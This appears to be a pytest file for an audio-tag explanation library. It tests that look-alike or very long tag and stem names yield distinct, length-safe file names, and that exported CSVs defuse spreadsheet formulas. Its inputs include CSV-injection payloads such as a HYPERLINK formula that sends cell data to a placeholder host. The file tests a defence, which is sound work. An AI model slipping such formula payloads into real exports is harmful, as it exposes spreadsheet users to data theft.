"""Hostile corpus, issue #24: file names made from tag and stem names never overwrite each other
or exceed the file system's limit, and CSV files meant for spreadsheets never hold formulas."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
from hostile_support import tree_hash

import xmtag
from xmtag.coalitions import export as coalitions_export


def _expl(tags, stems=("drums", "bass")):
    rng = np.random.default_rng(0)
    n = len(stems)
    e = xmtag.Explanation.from_game(rng.uniform(size=(2**n, len(tags))), list(stems), list(tags))
    return e


def _files_csv(out):
    with open(out / "files.csv", newline="") as fh:
        return list(csv.DictReader(fh))


def test_tags_that_slug_alike_get_distinct_plot_files(tmp_path):
    tags = ["rock/pop", "rock pop", "rock_pop", "Rock_Pop"]
    out = tmp_path / "run"
    written = xmtag.export(_expl(tags), out, tags=tags, report=False, audio=False)
    bars = sorted(p.name for p in (out / "plots").glob("bar-*.png"))
    assert len(bars) == 4 and len({b.lower() for b in bars}) == 4
    rows = _files_csv(out)
    bar_rows = {r["tag"]: r["path"] for r in rows if r["path"].startswith("plots/bar-")}
    assert set(bar_rows) == set(tags)  # the mapping tag -> file is in files.csv
    assert len(set(bar_rows.values())) == 4
    assert all(p.exists() for p in written.values())


def test_a_300_character_tag_is_exported_completely(tmp_path):
    tag = "t" * 300
    out = tmp_path / "run"
    written = xmtag.export(_expl([tag, "rock"]), out, tags=[tag, "rock"], audio=False)
    assert "report" in written and (out / "report.html").is_file()
    names = [p.name for p in (out / "plots").iterdir()]
    assert all(len(n.encode()) <= 255 for n in names)
    assert any(r["tag"] == tag for r in _files_csv(out))


def test_listenable_mixes_of_look_alike_tags_do_not_overwrite(tmp_path):
    sr = 8000
    t = np.arange(sr) / sr
    tone = {"a": 0.2 * np.sin(2 * np.pi * 100 * t), "b": 0.2 * np.sin(2 * np.pi * 300 * t)}
    stems = xmtag.Stems(tone, sr=sr)
    tags = ["rock/pop", "rock pop", "rock_pop"]
    values = np.array([[0.0] * 3, [0.9, 0.1, 0.5], [0.1, 0.9, 0.5], [1.0, 1.0, 1.0]])
    e = xmtag.Explanation.from_game(values, ["a", "b"], tags, audio=stems)
    out = tmp_path / "run"
    written = xmtag.export(e, out, tags=tags, plots=False, report=False)
    listens = {k: p for k, p in written.items() if k.startswith("listen:")}
    assert len(listens) == 3 and len(set(listens.values())) == 3
    assert len(list((out / "audio").iterdir())) == 3
    rows = {r["tag"]: r["path"] for r in _files_csv(out) if r["role"] == "listen"}
    assert rows == {k.split(":", 1)[1]: p.relative_to(out).as_posix() for k, p in listens.items()}


def test_coalitions_export_with_four_62_character_stem_names(tmp_path):
    names = [c * 62 for c in "abcd"]
    stems = xmtag.Stems({n: np.full(400, 0.1 * (i + 1)) for i, n in enumerate(names)}, sr=8000)
    folder = tmp_path / "mixes"
    before = tree_hash(tmp_path)
    m = coalitions_export(stems, folder, progress=False)
    assert len(m) == 16 and m["path"].nunique() == 16
    assert all((folder / p).is_file() and len(p.encode()) <= 255 for p in m["path"])
    assert m.loc[m["mask"] == 15, "stems"].item() == "+".join(names)  # the manifest keeps real names
    after = tree_hash(tmp_path)
    assert {k: v for k, v in after.items() if not k.startswith("mixes")} == before


def test_attributions_csv_defuses_formulas_and_keeps_the_data_exact(tmp_path):
    tags = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "@SUM(A1)", "\tcmd", "\rcr", "-rock", "rock"]
    stems = ("=drums", "bass")
    e = _expl(tags, stems=stems)
    out = tmp_path / "run"
    xmtag.export(e, out, tags=tags, plots=False, report=False, audio=False)
    table = pd.read_csv(out / "attributions.csv", keep_default_na=False)
    for cell in set(table["tag"]) | set(table["stem"]):
        assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=drums" in set(table["stem"]) and "rock" in set(table["tag"])
    assert "'-rock" in set(table["tag"])
    assert (table["value"] < 0).any() or (table["value"] >= 0).all()  # numbers stay numbers
    assert pd.api.types.is_float_dtype(table["value"])
    back = xmtag.Explanation.load(out / "explanation.xmtag")
    assert list(back.labels) == tags and list(back.stems) == list(stems)
    for row in _files_csv(out):
        assert not row["tag"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_coalition_manifest_defuses_formulas_and_still_reads_back(tmp_path):
    t = np.arange(800) / 8000
    stems = xmtag.Stems(
        {"=cmd": 0.1 * np.sin(2 * np.pi * 200 * t), "bass": 0.1 * np.sin(2 * np.pi * 90 * t)}, sr=8000
    )
    folder = tmp_path / "mixes"
    m = coalitions_export(stems, folder, progress=False)
    assert "=cmd" in set(m["stems"])  # the returned table keeps the names
    with open(folder / "manifest.csv", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    scored = pd.read_csv(folder / "manifest.csv", dtype={"stems": str}, keep_default_na=False)
    scored["rock"] = [0.0, 0.5, 0.2, 0.9]
    scored.to_csv(tmp_path / "scores.csv", index=False)
    e = xmtag.Explanation.from_scores(tmp_path / "scores.csv")
    assert sorted(e.stems) == ["=cmd", "bass"]
